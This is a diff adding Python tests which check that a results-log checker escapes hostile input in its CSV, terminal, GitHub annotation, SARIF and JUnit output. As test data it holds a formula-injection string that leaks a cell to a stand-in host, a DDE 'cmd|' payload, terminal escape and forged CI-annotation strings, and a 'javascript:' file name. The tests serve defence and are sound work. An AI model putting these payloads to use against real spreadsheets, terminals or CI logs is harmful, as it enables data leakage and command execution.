@@ -7,8 +7,13 @@ spreadsheet would act on.
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
 import shutil
+import subprocess
+import sys
 import threading
 from pathlib import Path
 
@@ -144,3 +149,121 @@ def test_a_scaling_factor_out_of_range_gives_no_score_and_says_why(tree: Path, f
     result, problems = score(tree)
     assert result.minutes is None and not result.valid
     assert "MLR032" in rules(problems)
+
+
+# -- 3. no spreadsheet formula in any CSV --------------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
+
+
+def _main(args: list[str], cwd: Path | None = None) -> tuple[int, str, str]:
+    """The console entry point in a fresh interpreter (bytes: escapes stay visible)."""
+    code = f"import sys; from mllog_check.cli import main; main({args!r})"
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, cwd=cwd)
+    return done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8")
+
+
+def _formula_cells(text: str) -> list[str]:
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    return [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-=")]
+
+
+def test_score_and_package_csv_neutralize_formulas_from_names(tree: Path) -> None:
+    desc = tree / "systems" / f"{SYSTEM}.json"
+    data = json.loads(desc.read_text("utf-8"))
+    data["system_name"] = FORMULA
+    data["submitter"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    desc.write_text(json.dumps(data), "utf-8")
+    _code, out, _ = _main(["score", "--ruleset", "5.0.0", "--format", "csv", str(tree)])
+    assert FORMULA.replace('"', '""') in out or "'=HYPERLINK" in out  # the value is there
+    assert not _formula_cells(out), out
+    assert "'=HYPERLINK" in out
+    # the package's problems CSV: a result file named like a formula
+    log = bench(tree) / "result_0.txt"
+    log.rename(bench(tree) / "=cmd.txt")
+    _code, out, _ = _main(["package", "--ruleset", "5.0.0", "--format", "csv", str(tree)])
+    assert "=cmd.txt" in out and not _formula_cells(out)
+
+
+def test_parse_csv_neutralizes_text_and_keeps_numbers(tree: Path, tmp_path: Path) -> None:
+    source = (bench(tree) / "result_0.txt").read_text("utf-8")
+    assert '"key": "submission_org", "value": "GigaComputing"' in source
+    hostile = source.replace('"value": "GigaComputing"', '"value": "+1+cmd|x"', 1)
+    log = tmp_path / "result_0.txt"
+    log.write_text(hostile, "utf-8")
+    _code, out, _ = _main(["parse", "--format", "csv", str(log)])
+    rows = list(csv.DictReader(io.StringIO(out)))
+    org = next(r for r in rows if r["key"] == "submission_org")
+    assert org["value"] == '\'"+1+cmd|x"' or org["value"].startswith('"+1')
+    assert not _formula_cells(out)
+    negative = [r for r in rows if r["value"].startswith("-")]
+    assert all(r["value"].lstrip("-").replace(".", "", 1).isdigit() for r in negative)
+
+
+def test_csv_cell_is_owasp_and_keeps_numbers() -> None:
+    from mllog_check.safety import csv_cell
+
+    for text in ("=1+1", "+1+cmd", "-1+2", "@SUM(A1)", "\t=x", "\r=x", "-"):
+        assert csv_cell(text) == "'" + text
+    for value in (-1, -1.5, "-1.5", "+3", "1e-3", "plain", "", None, 2.0):
+        assert csv_cell(value) == value
+
+
+# -- 4. nothing a terminal, CI log or SARIF/JUnit reader acts on ----------------------
+
+EVIL = "x\x1b]8;;https:example.invalid\x07\x1b[2J\n::error file=a.py::forged\r\u202e"
+
+
+def test_text_output_escapes_file_names_and_values(tree: Path) -> None:
+    log = bench(tree) / "result_0.txt"
+    evil = bench(tree) / f"result_0{EVIL}.txt"
+    text = log.read_text("utf-8").replace('"value": "GigaComputing"', '"value": 7', 1)
+    evil.write_text(text, "utf-8")
+    for fmt in ("text", "github"):
+        _code, out, err = _main(["check", "--ruleset", "5.0.0", "--format", fmt, str(evil)])
+        for stream in (out, err):
+            assert "\x1b" not in stream and "\r" not in stream and "\u202e" not in stream
+            lines = stream.splitlines()
+            forged = [ln for ln in lines if ln.lstrip().startswith("::error file=a.py")]
+            assert not forged, stream
+            if fmt == "text":
+                assert not [ln for ln in lines if ln.startswith("::")]
+    evil.unlink()
+    desc = tree / "systems" / f"{SYSTEM}.json"
+    desc.write_text(json.dumps({**json.loads(desc.read_text("utf-8")), "system_name": EVIL}))
+    _code, out, err = _main(["score", "--ruleset", "5.0.0", str(tree)])
+    assert "\x1b" not in out + err and "\\x1b]8;;https:example.invalid" in out
+    assert not [ln for ln in (out + err).splitlines() if ln.startswith("::")]
+
+
+def test_github_annotations_escape_properties_and_data(tree: Path) -> None:
+    evil = bench(tree) / "a,b:c%d.txt"
+    evil.write_text("not a log\n:::MLLOG {broken\n", "utf-8")
+    _code, out, _ = _main(["check", "--ruleset", "5.0.0", "--format", "github", str(evil)])
+    line = next(ln for ln in out.splitlines() if ln.startswith("::error"))
+    assert "a%2Cb%3Ac%25d.txt" in line
+
+
+def test_sarif_uris_are_percent_encoded_references(tree: Path) -> None:
+    name = "javascript:alert(1) x.txt"
+    (bench(tree) / name).write_text(":::MLLOG {broken\n", "utf-8")
+    _code, out, _ = _main(
+        ["check", "--ruleset", "5.0.0", "--format", "sarif", name], cwd=bench(tree)
+    )
+    uris = {
+        loc["physicalLocation"]["artifactLocation"]["uri"]
+        for result in json.loads(out)["runs"][0]["results"]
+        for loc in result["locations"]
+    }
+    assert uris == {"javascript%3Aalert%281%29%20x.txt"}
+
+
+def test_junit_stays_well_formed_with_control_characters(tree: Path) -> None:
+    import xml.etree.ElementTree as ET
+
+    evil = bench(tree) / "result_\x01\x08\x1b.txt"
+    text = (bench(tree) / "result_0.txt").read_text("utf-8")
+    evil.write_text(text.replace('"key": "submission_org"', '"key": "sub\\u0001"', 1), "utf-8")
+    _code, out, _ = _main(["check", "--ruleset", "5.0.0", "--format", "junit", str(evil)])
+    suites = ET.fromstring(out)
+    assert suites.find("testsuite/testcase") is not None
